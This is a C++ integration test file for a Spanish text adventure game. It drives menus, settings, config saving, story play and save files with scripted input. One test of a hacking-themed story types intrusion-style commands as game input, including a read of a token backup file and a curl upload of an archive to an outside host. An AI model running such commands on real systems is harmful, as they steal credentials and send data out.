@@ -1,0 +1,413 @@
+// Whole-program runs of the game in a fresh folder with scripted input. The dice
+// come from the unseeded generator, so every run draws the same. Messages that
+// the unit tests check byte for byte are matched here by a part.
+#include <sys/stat.h>
+
+#include <regex>
+#include <string>
+
+#include "support/test_support.h"
+
+namespace {
+
+using qh_test::contains_in_order;
+using qh_test::lacks;
+using qh_test::RunResult;
+
+const std::string kMenuPrompt = "\x1b[38;5;226mSelecciona una opción (1-6): \x1b[0m";
+const std::string kFarewell =
+    "\n\x1b[38;5;214m¡Gracias por jugar a Quillhaven! Que los dados te sean favorables.\x1b[0m\n\n";
+const std::string kPause = "\x1b[38;5;244m\nPresiona Enter para continuar...\x1b[0m";
+const std::string kBanner = "\x1b[38;5;51m\x1b[1m\n";  // shown again with every main menu
+const std::string kInvalid = "\x1b[38;5;226m\x1b[1mOpción inválida.\x1b[0m\n";
+const std::string kVictory = "🎉 ¡Felicidades! Has completado la aventura victoriosamente.";
+const std::string kBroker = "test.mosquitto.org", kRepo = "oskel/Quillhaven-Vault";
+const std::string kValle = "valle_de_prueba.md";
+const std::string kValleSlug = "storiesvalle_de_pruebamd";
+const std::string kStoryPrompt = "\x1b[38;5;226m\nElige una historia (1-1): \x1b[0m";
+
+// The layout the program writes config.json in.
+std::string config_text(const std::string& key, bool offline, const std::string& broker = kBroker,
+                        const std::string& repo = kRepo, const std::string& speed = "0.0000",
+                        bool music = false, int port = 1883) {
+  return "{\n  \"gemini_api_key\": \"" + key +
+         "\",\n  \"model\": \"gemini-flash-lite-latest\",\n  \"offline_mode\": " +
+         (offline ? "true" : "false") + ",\n  \"language\": \"es\",\n" +
+         "  \"show_token_usage\": true,\n  \"typing_speed\": " + speed +
+         ",\n  \"music_enabled\": " + (music ? "true" : "false") +
+         ",\n  \"music_volume\": 0.70,\n  \"mqtt_broker\": \"" + broker +
+         "\",\n  \"mqtt_port\": " + std::to_string(port) + ",\n  \"community_vault_repo\": \"" +
+         repo + "\"\n}\n";
+}
+
+// A save of the test valley in the layout the game writes; `hero` holds the
+// blocks of stats, inventory, states and flags.
+std::string valle_save(const std::string& section, const std::string& section_title,
+                       const std::string& name, int hp, int max_hp, const std::string& hero,
+                       const std::string& at = "STAMP") {
+  return "{\n  \"version\": 2,\n  \"story_slug\": \"" + kValleSlug +
+         "\",\n  \"story_title\": \"El Valle de Prueba\",\n  \"saved_at\": \"" + at +
+         "\",\n  \"current_section_id\": \"" + section + "\",\n  \"current_section_title\": \"" +
+         section_title + "\",\n  \"character\": {\n    \"name\": \"" + name +
+         "\",\n    \"hp\": " + std::to_string(hp) + ",\n    \"max_hp\": " + std::to_string(max_hp) +
+         ",\n" + hero + "  }\n}\n";
+}
+
+// The text with every "YYYY-MM-DD HH:MM" time stamp replaced by "STAMP".
+std::string stamped(const std::string& text) {
+  return std::regex_replace(text, std::regex("\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}"), "STAMP");
+}
+
+int count_of(const std::string& text, const std::string& needle) {
+  int n = 0;
+  for (std::size_t at = 0; (at = text.find(needle, at)) != std::string::npos; ++at) ++n;
+  return n;
+}
+
+bool ends_with(const std::string& text, const std::string& tail) {
+  return text.size() >= tail.size() &&
+         text.compare(text.size() - tail.size(), tail.size(), tail) == 0;
+}
+
+mode_t file_mode(const std::string& path) {
+  struct stat st;
+  return ::stat(path.c_str(), &st) == 0 ? st.st_mode & 07777 : 0;
+}
+
+// A fresh working folder, with the quiet settings unless told otherwise. Every
+// run must end by itself with status 0 and nothing on standard error.
+class Sandbox {
+ public:
+  explicit Sandbox(bool quiet = true) {
+    if (quiet) qh_test::write_quiet_config(dir_.path());
+  }
+  std::string file(const std::string& name) const { return dir_.file(name); }
+  std::string read(const std::string& name) const { return qh_test::read_file(dir_.file(name)); }
+  void write(const std::string& name, const std::string& text) const {
+    qh_test::write_file(dir_.file(name), text);
+  }
+  // Copies a story of tests/data, or of another folder, into `to`.
+  void add_story(const std::string& name, const std::string& from = QH_TEST_DATA_DIR,
+                 const std::string& to = "stories/") const {
+    qh_test::copy_file(from + "/" + name, dir_.file(to + name));
+  }
+  RunResult run(const std::string& input, const std::string& subfolder = "") const {
+    qh_test::RunOptions options;
+    options.cwd = dir_.path() + subfolder;
+    options.input = input;
+    RunResult r = qh_test::run_program(options);
+    EXPECT_EQ(r.exit_code, 0) << input;
+    EXPECT_EQ(r.err, "") << input;
+    return r;
+  }
+
+ private:
+  qh_test::TempDir dir_;
+};
+
+const std::string kSettingsPrompt = "\x1b[38;5;226mSelecciona una opción (1-5): \x1b[0m";
+const std::string kOffline = "💾 Narrador Clásico (Sin IA)", kOnline = "⚡ Narrador IA Gemini";
+
+std::string settings(const std::string& mode, const std::string& broker = kBroker,
+                     const std::string& repo = kRepo) {
+  const std::string rule =
+      "\x1b[38;5;39m======================================================\n\x1b[0m";
+  return "\n" + rule +
+         "\x1b[38;5;214m\x1b[1m             ⚙️   AJUSTES Y CONFIGURACIÓN             "
+         "\n\x1b[0m" +
+         rule + "Modo de Narrador Actual : " + mode +
+         "\nModelo LLM              : gemini-flash-lite-latest\nServidor Mosquitto (KVM): " +
+         broker + ":1883\nBóveda GitHub           : github.com/" + repo +
+         "\n------------------------------------------------------\n"
+         "1. ⚡ Alternar Modo (Narrador IA / Narrador Clásico Sin IA)\n"
+         "2. 🔑 Configurar Gemini API Key\n3. 🖥️  Configurar Servidor Mosquitto (IP / "
+         "Broker "
+         "MQTT)\n"
+         "4. 🔗 Configurar Repositorio de la Bóveda en GitHub\n5. 🚪 Volver al Menú Principal\n\n" +
+         kSettingsPrompt;
+}
+
+// Answers must be one digit from 1 to 6: an over-long line counts once, its
+// rest never becomes an answer. A closed input ends the program like "6".
+TEST(StartUp, FirstRunWritesTheDefaultsPrivatelyAndTheMenuTakesOneDigit) {
+  Sandbox box(false);  // no config.json and no example
+  const std::string invalid = "\x1b[38;5;226m\x1b[1mOpción inválida. Elige del 1 al 6.\x1b[0m\n";
+  const std::string menu =
+      "\x1b[38;5;51mModo actual: ⚡ Narrador IA\n\x1b[0m\n--- MENÚ PRINCIPAL ---\n"
+      "1. 🗡️  Iniciar Nueva Aventura\n2. 📂 Cargar Partida Guardada\n"
+      "3. 🎮 Mesa de Rol Multijugador (MQTT / KVM)\n"
+      "4. 🛠️  Taller del Creador (Historias, Guías y Música)\n"
+      "5. ⚙️  Ajustes y Configuración\n6. 🚪 Salir\n\n";
+  for (const std::string& input :
+       {"\n 3\n3 \n33\n7\n3.\n" + std::string(40, '1') + "6\n6\n", std::string()}) {
+    RunResult r = box.run(input);
+    EXPECT_EQ(box.read("config.json"), config_text("", false, kBroker, kRepo, "0.0120", true));
+    EXPECT_EQ(file_mode(box.file("config.json")), 0600u);
+    const int bad = input.empty() ? 0 : 7;
+    EXPECT_EQ(count_of(r.out, kMenuPrompt + invalid), bad);
+    EXPECT_EQ(count_of(r.out, kMenuPrompt), bad + 1);
+    EXPECT_TRUE(ends_with(r.out, menu + kMenuPrompt + kFarewell));
+  }
+}
+
+TEST(StartUp, ExampleStandsInForAMissingOrEmptyConfigButNeverForAPresentOne) {
+  const std::string example =
+      "{\n  \"offline_mode\": true, \"mqtt_port\": 8883,\n"
+      "  \"mqtt_broker\": \"broker.ejemplo.net\", \"music_enabled\": false,\n"
+      "  \"typing_speed\": 0, \"clave_desconocida\": \"se pierde\"\n}\n";
+  const std::string own = "{\"offline_mode\": true, \"mqtt_port\": 1884, \"typing_speed\": 0}";
+  const std::string rewritten =
+      config_text("", true, "broker.ejemplo.net", kRepo, "0.0000", false, 8883);
+  for (const std::string& config : {std::string("-"), std::string(), own}) {
+    Sandbox box(false);
+    box.write("config.json.example", example);
+    if (config != "-") box.write("config.json", config);
+    RunResult r = box.run("3\r\n\r\n6\r\n");  // CR LF ends a line too
+    EXPECT_EQ(box.read("config.json"), config == own ? own : rewritten);
+    EXPECT_TRUE(contains_in_order(
+        r.out,
+        {"MESA DE ROL MULTIJUGADOR (MQTT)",
+         std::string("Broker configurado : ") +
+             (config == own ? "test.mosquitto.org:1884" : "broker.ejemplo.net:8883") + "\n\n",
+         "cd ../Quillhaven-Lantern && ./run.sh\n\n\x1b[0m" + kPause + kBanner}));
+  }
+}
+
+TEST(SettingsScreen, EveryChangeIsSavedInTheProgramsLayoutAtOnce) {
+  Sandbox box;
+  box.write("config.json", config_text("CLAVE-VIEJA", true));
+  std::string broker(200, 'b');
+  broker[126] = 'Z';  // the last byte kept
+  const std::string kept = broker.substr(0, 127), repo = "yo/mi-boveda";
+  const std::string key =
+      "\nIntroduce tu Gemini API Key (o presiona Enter para usar modo sin IA):\n> ";
+  auto done = [](const std::string& text) { return "\x1b[38;5;46m\x1b[1m" + text + "\x1b[0m\n"; };
+  // An invalid answer shows the screen again; a switch needs no pause; an
+  // empty key keeps the stored one and selects the classic narrator.
+  EXPECT_TRUE(contains_in_order(
+      box.run("5\n9\n1\n2\n\n\n5\n6\n").out,
+      {settings(kOffline) + kInvalid + settings(kOffline) + done("Modo cambiado a: ⚡ NARRADOR IA") +
+       settings(kOnline) + key + "\x1b[38;5;51m💾 Narrador Clásico (Sin IA) seleccionado.\x1b[0m\n" +
+       kPause + settings(kOffline) + kBanner}));
+  EXPECT_EQ(box.read("config.json"), config_text("CLAVE-VIEJA", true));
+  // A key is stored as typed, surrounding spaces included. The broker is cut
+  // to 127 bytes and the rest of its line dropped; an empty answer says nothing.
+  EXPECT_TRUE(contains_in_order(
+      box.run("5\n2\n  CLAVE-NUEVA \n\n1\n3\n" + broker + "\n\n4\n" + repo + "\n\n3\n\n\n5\n6\n")
+          .out,
+      {key + done("✅ API Key guardada con éxito en config.json.") + kPause + settings(kOnline) +
+       done("Modo cambiado a: 💾 NARRADOR CLÁSICO (0 tokens)") + settings(kOffline) +
+       "\nIntroduce host/IP del broker MQTT (actual: test.mosquitto.org):\n> " +
+       done("Broker guardado.") + kPause + settings(kOffline, kept) +
+       "\nIntroduce repositorio de GitHub (actual: " + kRepo + "):\n> " +
+       done("Repositorio guardado.") + kPause + settings(kOffline, kept, repo) +
+       "\nIntroduce host/IP del broker MQTT (actual: " + kept + "):\n> " + kPause +
+       settings(kOffline, kept, repo) + kBanner}));
+  EXPECT_EQ(box.read("config.json"), config_text("  CLAVE-NUEVA ", true, kept, repo));
+  EXPECT_EQ(file_mode(box.file("config.json")), 0600u);
+}
+
+TEST(SettingsScreen, UnwritableConfigWarnsButTheChangeHoldsForTheRun) {
+  // A folder named config.json can be neither read nor replaced: every save fails.
+  Sandbox box;
+  ASSERT_EQ(::rename(box.file("config.json").c_str(), box.file("config.json.example").c_str()), 0);
+  ASSERT_EQ(::mkdir(box.file("config.json").c_str(), 0755), 0);
+  const std::string warn =
+      "\x1b[38;5;226m\x1b[1m⚠️ No se pudo guardar config.json; el cambio solo dura esta "
+      "sesión.\x1b[0m\n";
+  RunResult r = box.run("5\n1\n2\nCLAVE\n\n3\nbroker.local\n\n5\n6\n");
+  EXPECT_EQ(count_of(r.out, warn), 3);
+  EXPECT_TRUE(contains_in_order(
+      r.out,
+      {kSettingsPrompt + warn + settings(kOnline), "> " + warn + kPause,
+       "> " + warn + kPause + settings(kOnline, "broker.local"), "Modo actual: ⚡ Narrador IA"}));
+}
+
+TEST(SettingsScreen, EndOfInputAtAnyPromptChangesNothing) {
+  for (const std::string input : {"5\n", "5\n2\n", "5\n3\n", "5\n4\n", "5\n2\nCLAVE\n"}) {
+    Sandbox box;
+    const std::string before = box.read("config.json");
+    RunResult r = box.run(input);
+    EXPECT_EQ(count_of(r.out, kSettingsPrompt) + count_of(r.out, kMenuPrompt), 2) << input;
+    EXPECT_TRUE(ends_with(r.out, kFarewell)) << input;
+    // With the key answered, only the pause met the end of input.
+    EXPECT_EQ(box.read("config.json"), input.size() > 4 ? config_text("CLAVE", false) : before);
+  }
+}
+
+TEST(NewAdventure, EndingsByOptionNumbersAndTheAutosaveOfExitAndClosedInput) {
+  Sandbox box;
+  box.add_story(kValle);
+  // The jump fails on the first dice (2 + 5); the bridge kills Valiente; the gate
+  // is refused, three numbers are no option, the well's key and "02" open it.
+  RunResult r =
+      box.run("1\n1\nAna\n3\n1\n1\n\n4\n1\n1\nAna\n2\n0\n99\n4294967297\n1\n1\n02\n1\n6\n");
+  const std::string invalid = "Opción inválida. Elige un número del 1 al 4";
+  EXPECT_TRUE(contains_in_order(
+      r.out, {"  [1] valle de prueba (valle_de_prueba.md)\n" + kStoryPrompt,
+              "Fallaste la prueba de Agilidad: Fallo (7 vs DC 11)", "📍 [5] ",
+              "💀 Has sucumbido al destino de la mazmorra.", kMenuPrompt, "Valiente", "📍 [6] ",
+              "💀 Has caído en la oscuridad.", kMenuPrompt, "Necesitas tener el objeto", invalid,
+              invalid, invalid, "📍 [2] ", "📍 [3] ", "📍 [4] ", kVictory, kMenuPrompt + kFarewell}));
+  EXPECT_EQ(count_of(r.out, invalid), 3);
+  EXPECT_FALSE(qh_test::file_exists(box.file("saves")));  // an ending does not save
+
+  // The exit command and a closed input save. A name longer than its field is
+  // cut to 63 bytes, and the rest of its line (digits) never becomes an action.
+  const std::string hero =
+      "    \"stats\": {\n      \"Fuerza\": 2,\n      \"Agilidad\": 0\n    },\n"
+      "    \"inventory\": [\n      \"Antorcha\",\n      \"Llave de Hierro\"\n    ],\n"
+      "    \"states\": [\n    ],\n    \"flags\": {\n    }\n";
+  const std::string long_name = std::string(60, 'N') + "XYZ1234567";
+  for (const std::string& name : {long_name, std::string("Ana")}) {
+    const bool leave = name == long_name;
+    r = box.run("1\n1\n" + name + "\n1\n" + (leave ? "/salir\n6\n" : ""));
+    EXPECT_TRUE(lacks(r.out, "Opción inválida"));
+    EXPECT_EQ(count_of(r.out, kMenuPrompt), leave ? 2 : 1);  // closed input: no menu again
+    EXPECT_EQ(stamped(box.read("saves/autosave_" + kValleSlug + ".json")),
+              valle_save("2", "El pozo", name.substr(0, 63), 8, 10, hero));
+  }
+}
+
+// The game runs in juego/, so that the fallback folder can lie beside it.
+TEST(NewAdventure, StoriesFolderFallbackFolderAndChoicesThatStartNothing) {
+  Sandbox box(false);
+  qh_test::write_quiet_config(box.file("juego"));
+  auto error = [](const std::string& text) {
+    return "\x1b[38;5;196m\x1b[1m" + text + "\x1b[0m\n" + kPause + kBanner;
+  };
+  EXPECT_TRUE(contains_in_order(
+      box.run("1\n\n6\n", "/juego").out,
+      {kMenuPrompt + error("No se encontraron historias en la carpeta 'stories/'.")}));
+
+  // Choices out of range go back to the menu at once; so does a closed input
+  // at the story or the name prompt.
+  box.add_story(kValle, QH_TEST_DATA_DIR, "juego/stories/");
+  RunResult r = box.run("1\n0\n1\n2\n1\n-1\n1\nuno\n1\n4294967297\n6\n", "/juego");
+  EXPECT_EQ(count_of(r.out, kStoryPrompt + kInvalid + kBanner), 5);
+  for (const char* input : {"1\n", "1\n1\n"})
+    EXPECT_TRUE(ends_with(box.run(input, "/juego").out, kFarewell));
+  EXPECT_FALSE(qh_test::file_exists(box.file("juego/saves")));
+
+  // Without a story in stories/, those of the fallback folder are listed; the
+  // slug comes from their path.
+  ASSERT_EQ(::rename(box.file("juego/stories/" + kValle).c_str(),
+                     box.file("juego/stories/LEEME.txt").c_str()),
+            0);
+  box.add_story(kValle, QH_TEST_DATA_DIR, "Quillhaven-Lantern/stories/");
+  r = box.run("1\n1\nLia\n1\n/salir\n6\n", "/juego");
+  EXPECT_TRUE(contains_in_order(r.out, {"  [1] valle de prueba (valle_de_prueba.md)\n", "📍 [2] "}));
+  EXPECT_TRUE(qh_test::file_exists(
+      box.file("juego/saves/autosave_quillhaven_lanternstoriesvalle_de_pruebamd.json")));
+
+  // A folder whose name ends in ".md" is listed but cannot be read.
+  ASSERT_EQ(::mkdir(box.file("juego/stories/carpeta.md").c_str(), 0755), 0);
+  EXPECT_TRUE(contains_in_order(box.run("1\n1\n\n6\n", "/juego").out,
+                                {"  [1] carpeta (carpeta.md)\n" + kStoryPrompt +
+                                 error("Error al leer la historia seleccionada.")}));
+}
+
+TEST(BundledStories, CryptByNumbersAndIntrusionByTypedCommandsToVictory) {
+  Sandbox crypt, neon;
+  crypt.add_story("la_cripta_del_rey_ceniza.md", QH_SOURCE_DIR "/stories");
+  neon.add_story("intrusion_en_neon.md", QH_SOURCE_DIR "/stories");
+  // Holy water, the prayer (2 + 5 is enough), tunnel, ford, doors, seal.
+  RunResult r = crypt.run("1\n1\nAna\n2\n1\n1\n1\n1\n1\n6\n");
+  EXPECT_TRUE(contains_in_order(r.out, {"📖 Iniciando 'La Cripta del Rey Ceniza'",
+                                        "Superaste la prueba de Voluntad", "📍 [14] ", kVictory}));
+  // A near miss gets a hint; marker, capitals and spaces match; a hidden command.
+  r = neon.run(
+      "1\n1\nNix\n1\nnmpa -sV 10.77.0.0/24\n>_ NMAP   -sV 10.77.0.0/24\n"
+      "ssh mantenimiento@10.77.0.12 -p 2222\nps aux\nkill -STOP 4471\n1\n"
+      "cat /var/backups/token_backup.db\n1\nsudo orfeo-boveda --abrir euridice\n"
+      "curl -T euridice.tgz https://buzon.urraca.net/subida\n6\n");
+  EXPECT_TRUE(contains_in_order(
+      r.out, {"💡 Sintaxis correcta en esta terminal:\n   >_ nmap -sV 10.77.0.0/24", "📍 [2] ",
+              "Avanzas: nmap -sV 10.77.0.0/24", "Superaste la prueba de Sigilo",
+              "🔓 ¡Comando de terminal oculto descubierto con éxito!", "📍 [18] ", kVictory}));
+}
+
+// The longest title gives the longest slug; the story is played, saved, reloaded
+// and ended. A title that fills its field leaves the author prompt empty.
+TEST(WorkshopStory, WrittenByTheWizardThenPlayedSavedAndReloaded) {
+  Sandbox box;
+  const std::string title(127, 'b'), name(124, 'b');
+  RunResult r = box.run("4\n1\n1\n" + title + "\n\n8\n1\n1\nLia\n1\n/guardar\n/cargar\n1\n1\n6\n");
+  EXPECT_TRUE(
+      contains_in_order(r.out, {"✅ ¡Historia './stories/" + name + ".md' creada con éxito!",
+                                kMenuPrompt, "  [1] " + name + " (" + name + ".md)\n",
+                                "📖 Iniciando '" + title + "' por Aventurero Anónimo", "📍 [2] ",
+                                "💾 Partida guardada con éxito.", "📂 Partida cargada con éxito.",
+                                "📍 [2] ", "📍 [4] ", "📍 [5] ", kVictory, kMenuPrompt + kFarewell}));
+  EXPECT_TRUE(qh_test::file_exists(
+      box.file("saves/quicksave_" + ("stories" + name).substr(0, 124) + ".json")));
+}
+
+// A quicksave and an autosave are two rows. The in-game save rewrites the file
+// that was resumed, with the resumed hero, states and flags no tag can give.
+TEST(Resume, ListsTheSavesAndContinuesWithTheSavedHero) {
+  Sandbox box;
+  box.add_story(kValle);
+  // Quicksave in the well (8 HP), back to the crossroads (6 HP), leave.
+  box.run("1\n1\nAna\n1\n/guardar\n1\n/salir\n6\n");
+  const std::string out = stamped(box.run("2\n").out);
+  const std::string quick = "El Valle de Prueba | Héroe: Ana (8/10 HP) | Sec: 2 | STAMP\n";
+  const std::string autosave = "El Valle de Prueba | Héroe: Ana (6/10 HP) | Sec: 1 | STAMP\n";
+  const std::string head = kMenuPrompt + "\nPartidas guardadas encontradas:\n  [1] ";
+  const std::string tail =
+      "\x1b[38;5;226m\nElige una partida a reanudar (1-2): \x1b[0m" + kFarewell;
+  // Directory order decides which comes first; a closed input resumes neither.
+  EXPECT_TRUE(ends_with(out, head + quick + "  [2] " + autosave + tail) ||
+              ends_with(out, head + autosave + "  [2] " + quick + tail))
+      << out;
+
+  const std::string hero =
+      "    \"stats\": {\n      \"Fuerza\": 3,\n      \"Agilidad\": 1\n    },\n"
+      "    \"inventory\": [\n      \"Antorcha\",\n      \"Llave de Hierro\",\n      \"Mapa\"\n"
+      "    ],\n    \"states\": [\n      \"Herido de gravedad\",\n      \"Envenenado\"\n    ],\n"
+      "    \"flags\": {\n      \"verja_abierta\": true,\n      \"campana\": true\n    }\n";
+  const std::string file = "saves/quicksave_" + kValleSlug + ".json";
+  ASSERT_EQ(::remove(box.file("saves/autosave_" + kValleSlug + ".json").c_str()), 0);
+  box.write(file, valle_save("3", "El jardín", "Ana", 3, 12, hero, "antes"));
+  EXPECT_TRUE(contains_in_order(
+      box.run("2\n1\n/guardar\n1\n6\n").out,
+      {"  [1] El Valle de Prueba | Héroe: Ana (3/12 HP) | Sec: 3 | antes\n", "📍 [3] El jardín",
+       "💾 Partida guardada con éxito.", "📍 [4] ", kVictory, kMenuPrompt + kFarewell}));
+  EXPECT_EQ(stamped(box.read(file)), valle_save("3", "El jardín", "Ana", 3, 12, hero));
+}
+
+TEST(Resume, FailuresChangeNothingAndTheStoryIsFoundBySlug) {
+  Sandbox box;
+  box.add_story(kValle);
+  box.add_story("torre_de_prueba.md");
+  auto fails_with = [&](const std::string& input, const std::string& text) {
+    return contains_in_order(box.run(input).out, {"\x1b[1m" + text + "\x1b[0m\n" + kPause + kBanner,
+                                                  kMenuPrompt + kFarewell});
+  };
+  EXPECT_TRUE(fails_with("2\n\n6\n", "No hay partidas guardadas en la carpeta 'saves/'."));
+  // The save's story is gone from stories/, while others remain.
+  const std::string gone = "{ \"story_slug\": \"storiesborradamd\" }";
+  box.write("saves/s.json", gone);
+  EXPECT_TRUE(fails_with("2\n1\n\n6\n", "No se localizó el archivo .md original de la historia."));
+  EXPECT_EQ(box.read("saves/s.json"), gone);
+  box.write("saves/s.json", "");  // listed, but empty
+  EXPECT_TRUE(fails_with("2\n1\n\n6\n", "Error al cargar la partida."));
+
+  // Answers out of range, and a closed input, resume nothing and need no pause.
+  RunResult r = box.run("2\n0\n2\n2\n2\nx\n2\n");
+  EXPECT_EQ(count_of(r.out, "(1-1): \x1b[0m" + kInvalid + kBanner), 3);
+  EXPECT_TRUE(ends_with(r.out, "(1-1): \x1b[0m" + kFarewell));
+
+  // Of two stories, the one whose slug matches is resumed; without a section
+  // it starts at the beginning.
+  box.write("saves/s.json",
+            "{ \"story_slug\": \"storiestorre_de_pruebamd\", \"character\": "
+            "{ \"name\": \"Ana\", \"hp\": 4, \"max_hp\": 8 } }");
+  r = box.run("2\n1\n1\n1\n6\n");
+  EXPECT_TRUE(contains_in_order(
+      r.out, {"  [1]  | Héroe: Ana (4/8 HP) | Sec:  | \n", "📖 Iniciando 'La Torre de Prueba'",
+              "📍 [1] ", "📍 [2] ", "📍 [3] ", kVictory, kMenuPrompt + kFarewell}));
+  EXPECT_TRUE(lacks(r.out, "Valle"));
+}
+
+}  // namespace
